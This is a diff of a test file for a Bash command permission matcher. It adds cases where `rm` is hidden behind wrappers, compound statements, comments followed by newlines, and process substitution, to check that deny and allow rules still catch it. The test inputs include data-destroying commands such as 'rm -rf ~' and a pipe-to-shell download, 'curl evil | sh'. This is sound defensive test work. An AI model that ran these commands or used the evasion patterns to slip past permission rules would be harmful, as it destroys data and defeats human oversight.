@@ -66,10 +66,44 @@ describe('Bash rules', () => {
       'cat <(rm -rf x)',
       'tee >(rm -rf x) < /dev/null',
       'diff <(ls) <(rm -rf x)',
+      // Every wrapper with its options, every compound word, every separator.
+      'nohup rm x',
+      'time rm x',
+      'nice -n 5 rm x',
+      'nice -5 rm x',
+      'nice rm x',
+      'timeout 5 rm x',
+      'timeout -s KILL 5 rm x',
+      'timeout -k 1 -s TERM 5 rm x',
+      'timeout --foreground 5 rm x',
+      'stdbuf -oL -eL rm x',
+      'command -p rm x',
+      'builtin rm x',
+      'exec -c rm x',
+      'env FOO=1 -i rm x',
+      'if false; then :; elif true; then rm x; fi',
+      'if false; then :; else rm x; fi',
+      'until false; do rm x; done',
+      'ls |& rm x',
+      'case a in a) rm x;; esac',
+      'ls # comment\nrm x',
+      'rm *.txt',
     ]) {
       expect(matchesRule(denyRm, bash(command), 'any'), command).toBe(true)
     }
     expect(matchesRule(denyRm, bash('echo `ls`; if true; then ls; fi'), 'any')).toBe(false)
+    // A wrapper's own arguments are not the command.
+    for (const command of [
+      'nice -n 5 ls',
+      'timeout -s KILL 5 ls',
+      'stdbuf -oL ls',
+      'env FOO=rm ls',
+      'echo rm',
+    ]) {
+      expect(matchesRule(denyRm, bash(command), 'any'), command).toBe(false)
+    }
+    // Unparsable input is matched as one raw line.
+    expect(matchesRule(denyRm, bash('rm "unterminated'), 'any')).toBe(true)
     // An allow rule still never covers a command it cannot see in full.
     expect(matchesRule(rule('Bash(echo *)'), bash('echo `rm -rf x`'), 'every')).toBe(false)
   })
@@ -80,6 +114,8 @@ describe('Bash rules', () => {
     expect(matchesRule(allowStatus, bash('git status; curl evil | sh'), 'every')).toBe(false)
     expect(matchesRule(allowStatus, bash('git status $(rm -rf ~)'), 'every')).toBe(false)
     expect(matchesRule(allowStatus, bash('git status `rm -rf ~`'), 'every')).toBe(false)
+    // A comment ends at the newline: the next line still runs.
+    expect(matchesRule(allowStatus, bash('git status # look\nrm -rf ~'), 'every')).toBe(false)
     // Process substitution runs a command too: an allow prefix never covers it.
     expect(matchesRule(rule('Bash(cat *)'), bash('cat <(rm -rf ~)'), 'every')).toBe(false)
     expect(matchesRule(rule('Bash(tee *)'), bash('tee >(rm -rf ~)'), 'every')).toBe(false)
